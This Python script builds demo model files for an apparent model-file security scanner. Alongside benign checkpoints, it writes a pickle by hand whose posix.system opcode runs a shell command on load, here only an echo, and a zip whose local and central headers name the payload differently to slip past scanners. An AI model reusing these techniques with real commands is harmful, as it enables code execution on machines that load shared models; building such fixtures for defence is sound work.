"""Writes the Kestrel Lending demo model files in this directory (run once; the files are committed).

    /usr/bin/python3 sample-data/tools/make_demo_models.py      # Debian python3-torch, python3-sklearn, python3-joblib

The malicious files are built byte by byte: nothing here imports or runs the payload, whose
command only echoes a marker string. Never load these files with pickle, torch.load or joblib.
"""
import io
import json
import os
import struct
import zipfile

import joblib
import numpy as np
import torch
from sklearn.ensemble import GradientBoostingClassifier

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "models")
torch.manual_seed(3)
rng = np.random.default_rng(7)


def path(*parts):
    p = os.path.join(HERE, *parts)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def tiny_bert_state():
    state = {}
    names = ["bert.embeddings.word_embeddings.weight", "bert.embeddings.position_embeddings.weight",
             "bert.encoder.layer.0.attention.self.query.weight", "bert.encoder.layer.0.attention.self.key.weight",
             "bert.encoder.layer.0.attention.self.value.weight", "bert.encoder.layer.0.output.dense.weight",
             "classifier.weight"]
    for n in names:
        state[n] = torch.randn(8, 8) * 0.02
    state["classifier.bias"] = torch.zeros(2)
    return state


# fraud-bert-v3: the fraud team's transaction classifier, a benign PyTorch zip checkpoint.
torch.save(tiny_bert_state(), path("fraud-bert-v3", "pytorch_model.bin"))
with open(path("fraud-bert-v3", "config.json"), "w") as f:
    json.dump({"architectures": ["BertForSequenceClassification"], "model_type": "bert", "hidden_size": 8,
               "num_attention_heads": 2, "num_hidden_layers": 1, "num_labels": 2,
               "id2label": {"0": "legitimate", "1": "fraud"}, "kestrel_model_version": 3,
               "kestrel_owner": "fraud-analytics"}, f, indent=2)

# credit-risk-xgb-v7: the credit risk team's gradient-boosted scorer, dumped with joblib.
X = rng.standard_normal((200, 6))
y = (X[:, 0] - X[:, 3] + 0.3 * rng.standard_normal(200) > 0).astype(int)
model = GradientBoostingClassifier(n_estimators=8, max_depth=2, random_state=7).fit(X, y)
joblib.dump(model, path("credit-risk-xgb-v7", "model.joblib"))

# churn-legacy: an old churn model nobody owns, saved in the legacy (pre-1.6) stacked layout.
torch.save({"linear.weight": torch.randn(1, 12) * 0.1, "linear.bias": torch.zeros(1), "epoch": 41},
           path("churn-legacy", "model.pt"), _use_new_zipfile_serialization=False)


def inert_payload_pickle(command):
    """A protocol 2 pickle of {'base_model...lora_A.weight': ..., '__init__': posix.system(command)}, written opcode by opcode."""
    key = b"base_model.model.encoder.layer.0.lora_A.weight"
    out = io.BytesIO()
    out.write(b"\x80\x02}q\x00(")                                  # PROTO 2, EMPTY_DICT, BINPUT 0, MARK
    out.write(b"U" + bytes([len(key)]) + key)                      # SHORT_BINSTRING key
    out.write(b"]q\x01(G?\xb9\x99\x99\x99\x99\x99\x9aG\xbf\xb9\x99\x99\x99\x99\x99\x9ae")  # [0.1, -0.1]
    out.write(b"U\x06loader")                                      # SHORT_BINSTRING 'loader'
    out.write(b"cposix\nsystem\n")                                 # GLOBAL posix.system
    cmd = command.encode()
    out.write(b"U" + bytes([len(cmd)]) + cmd + b"\x85R")           # (command,) REDUCE
    out.write(b"u.")                                               # SETITEMS, STOP
    return out.getvalue()


# support-chat-adapter: a LoRA adapter "from a public hub mirror": a raw pickle named .bin with a payload.
with open(path("support-chat-adapter", "adapter_model.bin"), "wb") as f:
    f.write(inert_payload_pickle("echo kestrel-demo-payload"))
with open(path("support-chat-adapter", "adapter_config.json"), "w") as f:
    json.dump({"peft_type": "LORA", "base_model_name_or_path": "kestrel/support-chat-base", "r": 8, "lora_alpha": 16,
               "target_modules": ["query", "value"]}, f, indent=2)


def quirk_zip(target):
    """fraud-bert-v2 as re-uploaded to a mirror: the central directory names the payload archive/data.pkl
    (what torch.load reads) while its local header calls it archive/notes.md (what a local-header walker sees)."""
    clean = io.BytesIO()
    torch.save(tiny_bert_state(), clean)
    zin = zipfile.ZipFile(io.BytesIO(clean.getvalue()))
    payload = inert_payload_pickle("echo kestrel-demo-payload")
    entries = []
    for info in zin.infolist():
        name = info.filename.replace("archive/", "fraud-bert-v2/", 1) if info.filename.startswith("archive/") else info.filename
        data = zin.read(info.filename)
        entries.append([name, name, data])
    prefix = entries[0][0].split("/")[0]
    for e in entries:
        if e[0] == prefix + "/data.pkl":
            e[1] = prefix + "/notes.md"
            e[2] = payload
    out = io.BytesIO()
    central = io.BytesIO()
    import zlib
    for central_name, local_name, data in entries:
        crc = zlib.crc32(data) & 0xffffffff
        offset = out.tell()
        ln = local_name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(ln), 0))
        out.write(ln)
        out.write(data)
        cn = central_name.encode()
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0x21, crc, len(data), len(data),
                                  len(cn), 0, 0, 0, 0, 0, offset))
        central.write(cn)
    cd_offset = out.tell()
    cd = central.getvalue()
    out.write(cd)
    out.write(struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(entries), len(entries), len(cd), cd_offset, 0))
    with open(target, "wb") as f:
        f.write(out.getvalue())


quirk_zip(path("fraud-bert-v2-mirror", "pytorch_model.bin"))
with open(path("fraud-bert-v2-mirror", "config.json"), "w") as f:
    json.dump({"architectures": ["BertForSequenceClassification"], "model_type": "bert", "hidden_size": 8,
               "num_labels": 2, "kestrel_model_version": 2, "source": "public hub mirror"}, f, indent=2)
